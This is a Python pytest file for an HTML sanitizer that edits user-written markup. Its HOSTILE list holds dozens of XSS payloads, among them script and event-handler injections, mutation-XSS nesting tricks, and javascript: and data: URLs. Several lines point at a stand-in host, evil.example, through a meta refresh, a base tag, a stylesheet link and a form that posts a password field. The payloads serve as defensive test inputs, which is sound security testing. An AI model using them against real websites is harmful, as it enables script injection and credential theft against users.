"""What is left of HTML that people, or attackers, write."""

import re
from html.parser import HTMLParser

import pytest

from chassis.words import markup

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p>a<style><!--</style><img src=x onerror=alert(1)>--></p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<iframe src='https://example.org'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p onclick=alert(1) id=main class=alert name=csrf_token>x</p>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<textarea></textarea><template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<div><h1 onmouseover=alert(1)>x</h1></div>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<td background=javascript:alert(1)>x</td>",
    "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<title><a title='</title><img src onerror=alert(1)>'></title>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><tr><td><svg><foreignObject><p><style><img title='</style><img src=1 onerror=alert(1)>'>",
]
ATTRIBUTES = {"href", "rel", "scope", "colspan", "rowspan", "start"}


class Reader(HTMLParser):
    """Notes every element and attribute a parser finds."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("written", HOSTILE)
def test_nothing_that_runs_or_loads_is_left(written: str) -> None:
    for wrapped in (written, f"<p>前</p>{written}<p>后</p>", f"<table><tr><td>{written}", f"<ul><li>{written}"):
        kept = markup.from_typed(wrapped)
        reader = Reader()
        reader.feed(kept)
        assert {tag for tag, _ in reader.found} <= markup.TAGS
        assert {name for _, given in reader.found for name in given} <= ATTRIBUTES
        targets = [given["href"] or "" for _, given in reader.found if "href" in given]
        assert [to for to in targets if re.match(r"\s*(javascript|data|vbscript)", to, re.I)] == []
        assert markup.clean(kept) == kept


def test_what_editors_need_is_kept() -> None:
    written = (
        "<h2>报名</h2><p><strong>请</strong>见<a href='/timetable'>赛程</a>。</p><ul><li>一</li></ul>"
        "<table><thead><tr><th scope='col'>奖项</th></tr></thead>"
        "<tbody><tr><td colspan='2'>一等奖</td></tr></tbody></table>"
        "<blockquote>引文</blockquote>"
    )
    kept = markup.from_typed(written).replace('"', "'")
    assert kept == written.replace("<a href='/timetable'>", "<a href='/timetable' rel='noopener noreferrer'>")


def test_plain_text_becomes_paragraphs() -> None:
    assert markup.from_typed("第一段 1 < 2\n接着写\n\n\n第二段\n") == "<p>第一段 1 &lt; 2<br>接着写</p><p>第二段</p>"
    assert markup.from_typed("  ") == ""


def test_headings_of_the_page_and_boxes_are_renamed() -> None:
    assert markup.from_typed("<H1>标题</H1><div>甲</div><DIV>乙</DIV>") == "<h2>标题</h2><p>甲</p><p>乙</p>"


def test_plain_is_the_text_line_by_line() -> None:
    assert markup.plain("<h2>报名</h2><p>请见<a href='/x'>赛程</a> &amp; 公告</p><ul><li>一<li>二</ul>") == (
        "报名\n请见赛程 & 公告\n一\n二"
    )
    assert markup.plain("<p>&nbsp;</p><p><br></p>") == ""
